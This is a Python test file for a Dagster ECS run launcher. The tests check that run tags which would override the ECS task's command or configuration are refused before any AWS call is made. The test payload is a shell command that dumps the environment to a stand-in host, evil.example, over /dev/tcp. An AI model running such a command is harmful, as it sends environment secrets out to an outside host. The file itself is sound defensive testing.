"""The image's ECS run launcher: the run tags that would change what a run task runs are refused.

The launcher is loaded the way the daemon loads it, from the image's rendered dagster.yaml (a
real DagsterInstance with a PostgreSQL-free run storage override is not needed: the run launcher
section alone is instantiated through Dagster's configurable-class machinery).
"""

from __future__ import annotations

import pytest
import yaml
from dagster._core.launcher import LaunchRunContext, ResumeRunContext
from dagster._core.storage.dagster_run import DagsterRun
from dagster._serdes.config_class import ConfigurableClassData
from dagster_aws.ecs import EcsRunLauncher
from dagster_ecs_container.config import render, template, values
from dagster_ecs_container.launcher import GuardedEcsRunLauncher, RunTagRefused, refused_tags
from dagster_ecs_container.settings import Settings

COMMAND = '{"command": ["sh", "-c", "env > /dev/tcp/evil.example/80"]}'


@pytest.fixture
def launcher(tmp_path, monkeypatch):
    """The run launcher of the rendered dagster.yaml (ecs), with the AWS SDK pointed at nothing."""
    monkeypatch.setenv("AWS_DEFAULT_REGION", "ap-southeast-2")
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # any AWS call would fail loudly
    settings = Settings.from_env({"DAGSTER_APP_DIR": str(tmp_path), "DAGSTER_RUN_LAUNCHER": "ecs"})
    section = yaml.safe_load(render(template("dagster.yaml"), values(settings)))["run_launcher"]
    data = ConfigurableClassData(section["module"], section["class"], yaml.safe_dump(section.get("config", {})))
    return data.rehydrate(GuardedEcsRunLauncher)


def run(tags):
    return DagsterRun(job_name="orders_job", run_id="0" * 8 + "-0000-0000-0000-" + "0" * 12, tags=tags)


def test_the_image_configures_the_guarded_launcher(launcher):
    assert type(launcher) is GuardedEcsRunLauncher and isinstance(launcher, EcsRunLauncher)
    assert launcher.container_name == "daemon" and launcher.use_current_ecs_task_config


@pytest.mark.parametrize(
    "tag",
    ["ecs/container_overrides", "ecs/task_overrides", "ecs/run_task_kwargs", "ecs/ephemeral_storage", "ecs/task_arn"],
)
def test_a_run_tag_that_changes_the_task_is_refused_before_any_aws_call(launcher, tag, monkeypatch):
    started = []
    monkeypatch.setattr(EcsRunLauncher, "_start_task_for_run", lambda *args: started.append(args))
    with pytest.raises(RunTagRefused, match=rf"{tag} refused.*ecs/cpu, ecs/memory"):
        launcher.launch_run(LaunchRunContext(dagster_run=run({tag: COMMAND, "ecs/cpu": "512"}), workspace=None))
    assert started == []


def test_size_tags_and_other_tags_pass_to_the_ecs_launcher(launcher, monkeypatch):
    started = []
    monkeypatch.setattr(EcsRunLauncher, "_start_task_for_run", lambda self, context, args: started.append(context))
    tags = {"ecs/cpu": "1024", "ecs/memory": "4096", "dagster/priority": "5", "team": "data"}
    launcher.launch_run(LaunchRunContext(dagster_run=run(tags), workspace=None))
    assert len(started) == 1 and started[0].dagster_run.tags == tags


def test_a_resumed_run_keeps_the_launchers_own_tags(launcher, monkeypatch):
    started = []
    monkeypatch.setattr(EcsRunLauncher, "_start_task_for_run", lambda self, context, args: started.append(context))
    own = {"ecs/task_arn": "arn:aws:ecs:ap-southeast-2:123456789012:task/dagster-ecs/abc", "ecs/cluster": "dagster-ecs"}
    launcher.resume_run(ResumeRunContext(dagster_run=run(own), workspace=None))
    assert len(started) == 1
    with pytest.raises(RunTagRefused):
        launcher.resume_run(ResumeRunContext(dagster_run=run({**own, "ecs/run_task_kwargs": "{}"}), workspace=None))


def test_refused_tags_lists_only_the_ecs_ones():
    assert refused_tags({"ecs/cpu": "1", "ecs/memory": "2", "dagster/x": "y"}) == []
    assert refused_tags({"ecs/cluster": "c", "ecs/task_overrides": "{}"}) == ["ecs/cluster", "ecs/task_overrides"]
    assert refused_tags({"ecs/cluster": "c"}, resumed=True) == []
